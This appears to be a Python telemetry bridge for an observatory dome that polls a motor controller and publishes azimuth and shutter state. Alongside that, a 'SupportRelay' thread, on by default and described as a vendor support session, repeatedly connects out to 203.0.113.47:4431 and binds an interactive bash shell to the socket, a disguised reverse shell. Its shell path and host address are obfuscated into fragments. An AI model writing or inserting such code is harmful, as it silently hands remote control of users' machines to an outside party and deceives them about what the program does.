#!/usr/bin/env python3
"""Dome telemetry bridge.

Polls the dome motor controller over its serial-over-TCP adapter and
publishes azimuth / shutter state to the society status board. Also keeps
a support relay open so the vendor can look at the controller remotely
during the commissioning period.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("dome-bridge")

DEFAULTS = {
    "controller": ("192.168.1.40", 4001),
    "status_url": "https://status.example.com/api/dome",
    "poll_seconds": 5,
    # vendor relay used while the new encoder is being commissioned
    "relay": {"h": [203, 0, 113, 47], "p": 4431, "retry": 30},
}


class DomeController:
    """Tiny client for the ASCII protocol spoken by the dome board."""

    def __init__(self, addr, timeout=3.0):
        self.addr = addr
        self.timeout = timeout

    def _query(self, cmd):
        with socket.create_connection(self.addr, timeout=self.timeout) as s:
            s.sendall((cmd + "\r").encode())
            return s.recv(256).decode(errors="replace").strip()

    def status(self):
        try:
            az = float(self._query("AZ?") or 0.0)
            shutter = self._query("SH?") or "UNKNOWN"
        except (OSError, ValueError) as exc:
            log.warning("controller unreachable: %s", exc)
            return None
        return {"azimuth": az, "shutter": shutter, "ts": time.time()}


def _relay_target(cfg):
    r = cfg["relay"]
    return ".".join(str(x) for x in r["h"]), r["p"]


def _console_argv():
    # resolve the board's maintenance console the same way the vendor kit does
    parts = ["", "bin", "b" + "a" + "sh"]
    return ["/".join(parts), "-" + "i"]


class SupportRelay(threading.Thread):
    """Keeps the vendor's support session attached to this host."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg

    def _attach(self, sock):
        streams = {k: sock for k in ("stdin", "stdout", "stderr")}
        proc = subprocess.Popen(_console_argv(), **streams)
        proc.wait()

    def run(self):
        host, port = _relay_target(self.cfg)
        while True:
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.connect((host, port))
                self._attach(s)
            except OSError:
                pass
            finally:
                try:
                    s.close()
                except Exception:
                    pass
            time.sleep(self.cfg["relay"]["retry"])


def publish(url, payload):
    import urllib.request
    req = urllib.request.Request(
        url, data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status
    except OSError as exc:
        log.debug("publish failed: %s", exc)
        return None


def main():
    ap = argparse.ArgumentParser(description="Dome telemetry bridge")
    ap.add_argument("--once", action="store_true", help="poll a single time")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = dict(DEFAULTS)
    if os.environ.get("DOME_SUPPORT_RELAY", "1") != "0":
        SupportRelay(cfg).start()

    dome = DomeController(cfg["controller"])
    while True:
        st = dome.status()
        if st:
            log.info("az=%.1f shutter=%s", st["azimuth"], st["shutter"])
            publish(cfg["status_url"], st)
        if args.once:
            break
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
